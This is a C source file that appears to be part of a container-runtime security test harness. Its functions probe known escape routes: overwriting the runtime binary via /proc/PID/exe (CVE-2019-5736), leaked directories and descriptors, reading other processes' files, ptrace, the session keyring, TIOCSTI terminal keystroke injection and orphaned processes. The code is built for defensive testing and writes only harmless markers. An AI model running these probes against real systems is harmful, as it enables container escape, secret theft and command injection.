/* What the runtime and its caller leave lying about: its program, descriptors, processes, habits, keys, the terminal. */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

/* Whether this is the runtime's program, and a copy that the harness gave away for it: nothing else may be touched. */
static int is_given_away(const char* link) {
  char target[4096];
  const ssize_t size = readlink(link, target, sizeof target - 1);
  if (size <= 0) return 0;
  target[size] = '\0';
  return strstr(target, "/throw-away/") != NULL;
}

/*
 * CVE-2019-5736: the program of every process is one link away, /proc/PID/exe, wherever its file may be. Whoever may
 * follow the link of a process of the runtime's may change the runtime. The harness looks whether its file is another.
 */
const char* attack_runtime_program(const char* unused) {
  (void)unused;
  ensure_proc();
  DIR* proc = opendir("/proc");
  if (proc == NULL) return NULL;
  for (struct dirent* entry = readdir(proc); entry != NULL; entry = readdir(proc)) {
    char link[300];
    snprintf(link, sizeof link, "/proc/%s/exe", entry->d_name);
    if (!isdigit((unsigned char)entry->d_name[0]) || !is_given_away(link)) continue;
    const int changed = chmod(link, 04777);
    const int fd = open(link, O_WRONLY | O_APPEND | O_CLOEXEC);  /* ETXTBSY while it runs: chmod does not care */
    if (fd >= 0 && write(fd, "X", 1) == 1) break;
    if (changed == 0) break;
  }
  closedir(proc);
  return NULL;
}

/* CVE-2024-21626: a working directory outside of the root stays one. */
const char* attack_directory(const char* unused) {
  (void)unused;
  static const char* const kPaths[] = {"secret", "../secret", "../../secret"};
  for (size_t i = 0; i < sizeof kPaths / sizeof *kPaths; ++i)
    if (can_read(kPaths[i])) return "read";
  return "hidden";
}

/* An open directory of the host's leads to all that is below it. */
const char* attack_descriptors(const char* unused) {
  (void)unused;
  for (int fd = 0; fd < 1024; ++fd) {
    const int secret = openat(fd, "secret", O_RDONLY | O_CLOEXEC);
    if (secret < 0) continue;
    close(secret);
    return "read";
  }
  return "hidden";
}

static int reads_through(pid_t process, const char* what, const char* path) {
  char name[4200];
  snprintf(name, sizeof name, "/proc/%d/%s/%s", (int)process, what, path);
  return can_read(name);
}

/* CVE-2016-9962: what a process of the runtime's has open, its directory and its root, are there for those who may. */
static int reads_from(pid_t process, const char* path) {
  char name[64];
  if (process <= 0 || process == getpid()) return 0;
  if (reads_through(process, "cwd", "secret") || reads_through(process, "root", path)) return 1;
  for (int fd = 0; fd < 64; ++fd) {
    snprintf(name, sizeof name, "fd/%d", fd);
    if (reads_through(process, name, "secret") || reads_through(process, name, path + 1)) return 1;
  }
  return 0;
}

const char* attack_process_files(const char* path) {
  ensure_proc();
  return reads_from(1, path) || reads_from(getppid(), path) ? "read" : "hidden";
}

/* Whoever traces a process is that process: it makes the calls that we want. Let go again at once. */
static int traces(pid_t process) {
  if (process <= 0 || process == getpid()) return 0;
  const pid_t child = fork_bound();  /* when a tracer ends, what it traced runs on */
  if (child == 0) _exit(ptrace(PTRACE_SEIZE, process, NULL, NULL) == 0 ? 0 : 1);
  siginfo_t end = {0};
  return child > 0 && waitid(P_PID, (id_t)child, &end, WEXITED) == 0 && end.si_code == CLD_EXITED && end.si_status == 0;
}

const char* attack_trace(const char* unused) {
  (void)unused;
  return traces(getppid()) || traces(1) ? "traced" : "refused";
}

/* A file that anybody may write, where the program asked for nothing special. */
const char* attack_umask(const char* unused) {
  (void)unused;
  char path[4096];
  struct stat status;
  static const char* const kPlaces[] = {"tmp/umask", "dev/shm/umask"};
  int fd = -1;
  for (size_t i = 0; fd < 0 && i < sizeof kPlaces / sizeof *kPlaces; ++i) {
    path_in_root(path, sizeof path, kPlaces[i]);
    fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0666);
  }
  if (fd < 0) return "unclear";
  const int known = fstat(fd, &status) == 0;
  close(fd);
  unlink(path);
  if (!known) return "unclear";
  return (status.st_mode & 022) != 0 ? "open" : "closed";
}

/* The caller's session keyring is inherited like its environment. */
const char* attack_key(const char* unused) {
  (void)unused;
  char secret[64];
  const long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "dockwright-attack", 0);
  if (key < 0) return "hidden";
  return syscall(SYS_keyctl, KEYCTL_READ, key, secret, sizeof secret) > 0 ? "read" : "hidden";
}

/* Pushes a character into the terminal as if it had been typed there; whoever reads next will take it for a command. */
const char* attack_terminal(const char* unused) {
  (void)unused;
  const int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
  int pushed = fd >= 0 && ioctl(fd, TIOCSTI, "X") == 0;
  for (int standard = 0; standard <= 2; ++standard) pushed |= ioctl(standard, TIOCSTI, "X") == 0;
  return pushed ? "pushed" : "refused";
}

/* Goes on in the background, in a session of its own, and says that it is there; the harness then kills the runtime. */
const char* attack_wait(const char* unused) {
  (void)unused;
  const pid_t child = fork();
  alarm(30);  /* a safety net */
  if (child == 0) {
    setsid();
    signal(SIGHUP, SIG_IGN);
  } else {
    puts("ready");
    fflush(stdout);
  }
  for (;;) pause();
}
